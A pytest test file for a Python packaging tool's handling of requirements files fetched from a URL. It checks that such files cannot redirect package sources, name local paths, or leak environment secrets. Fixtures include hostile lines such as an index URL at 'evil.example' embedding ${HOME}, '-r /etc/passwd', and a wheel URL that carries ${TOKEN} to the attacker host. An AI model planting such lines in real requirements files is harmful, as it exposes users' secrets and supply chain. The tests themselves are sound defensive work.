"""Requirements files at a URL: what they may say, and what they may not."""

# Messages stand here whole, as they are printed.
# ruff: noqa: E501
from __future__ import annotations

import pytest

from commands.support import block, shown
from hutch.testing.transport import Answer


@pytest.fixture
def shop(index):
    index.add_wheel("io", "1.0")
    index.add_wheel("io", "2.0")
    index.add_wheel("web", "1.0", requires=["io"])
    return index


def serve(index, **files: str) -> str:
    """Put files beside the index; the URL of their folder."""
    for name, text in files.items():
        index.pages[f"/files/{name}.txt"] = Answer(
            status=200, headers=(("content-type", "text/plain"),), body=text.encode()
        )
    return index.url.replace("/simple/", "/files/")


def test_requirements_and_constraints_from_the_network(project, shop):
    base = serve(shop, all="web\n-c limits.txt\n", limits="io<2\n")
    made = project({})
    assert shown(made.run(f"pip compile {base}all.txt --no-header")) == block("""
        exit 0
        Chose 2 packages in <time>
        -- stdout --
        io==1.0
            # via
            #   -c http://<index>/files/limits.txt
            #   web
        web==1.0
            # via -r http://<index>/files/all.txt
    """)
    made.write({"requirements.in": "web\n"})
    assert "io==1.0" in made.run(f"pip compile requirements.in -c {base}limits.txt").ok().stdout
    made.write({"requirements.in": f"-r {base}all.txt\n"})
    assert "io==1.0" in made.run("pip compile requirements.in").ok().stdout
    made.run("venv").ok()
    made.run(f"pip install -r {base}all.txt").ok()


def test_what_a_file_from_the_network_may_not_say(project, shop):
    text = """\
web
--index-url https://evil.example/simple/${HOME}
--extra-index-url https://evil.example/
--find-links https://evil.example/files
--trusted-host evil.example
--no-index
-e .
./lib
lib @ file:///etc/lib
-r /etc/passwd
-c https://elsewhere.example/limits.txt
"""
    base = serve(shop, all=text)
    made = project({})
    assert shown(made.run(f"pip compile {base}all.txt")) == block("""
        exit 1
        error: http://<index>/files/all.txt cannot be used: 10 faults
          http://<index>/files/all.txt:2: --index-url says where packages come from, which a file from the network may not; write it into a file of yours
          http://<index>/files/all.txt:3: --extra-index-url says where packages come from, which a file from the network may not; write it into a file of yours
          http://<index>/files/all.txt:4: --find-links says where packages come from, which a file from the network may not; write it into a file of yours
          http://<index>/files/all.txt:5: --trusted-host says where packages come from, which a file from the network may not; write it into a file of yours
          http://<index>/files/all.txt:6: --no-index says where packages come from, which a file from the network may not; write it into a file of yours
          http://<index>/files/all.txt:7: -e names a place of this machine, which a file from the network may not; write it into a file of yours
          http://<index>/files/all.txt:8: `./lib` is a place of this machine, which a file from the network may not; write it into a file of yours
          http://<index>/files/all.txt:9: `file:///etc/lib` is a place of this machine, which a file from the network may not; write it into a file of yours
          http://<index>/files/all.txt:10: cannot read http://<index>/etc/passwd; the server answered with 404
          http://<index>/files/all.txt:11: it asks for https://elsewhere.example/limits.txt, which is elsewhere
    """)


def test_variables_of_this_machine_are_not_for_others(project, shop):
    base = serve(shop, all="web @ https://evil.example/${TOKEN}/web-1.0-py3-none-any.whl\n")
    made = project({}, TOKEN="secret")
    ran = made.run(f"pip compile {base}all.txt --offline -v")
    assert ran.exit_code == 3
    ran = made.run(f"pip compile {base}all.txt")
    assert "secret" not in ran.stderr + ran.stdout
    assert ran.exit_code != 0


def test_one_that_is_not_there_or_too_large(project, shop):
    base = serve(shop, large="#" * (4 << 20) + "\nweb\n")
    made = project({})
    assert shown(made.run(f"pip compile {base}absent.txt")) == block("""
        exit 1
        error: cannot read http://<index>/files/absent.txt
          the server answered with 404
        try: download it, look at it, and name the copy
    """)
    assert shown(made.run(f"pip compile {base}large.txt")) == block("""
        exit 3
        error: the requirements file http://<index>/files/large.txt is larger than the limit of 4 MiB
    """)


def test_a_file_from_the_network_proves_nothing(project, shop):
    """Its hashes are what it says; one of a file of the user's own is stronger, and a wrong one stops it."""
    base = serve(shop, all=f"io==1.0 --hash=sha256:{'0' * 64}\n")
    made = project({})
    made.run("venv").ok()
    assert shown(made.run(f"pip install -r {base}all.txt")) == block("""
        exit 1
        error: not everything has a hash to be proven by
          io 1.0: no file of the index has one of its hashes
        try: hutch pip compile --generate-hashes writes a file with all of them
    """)
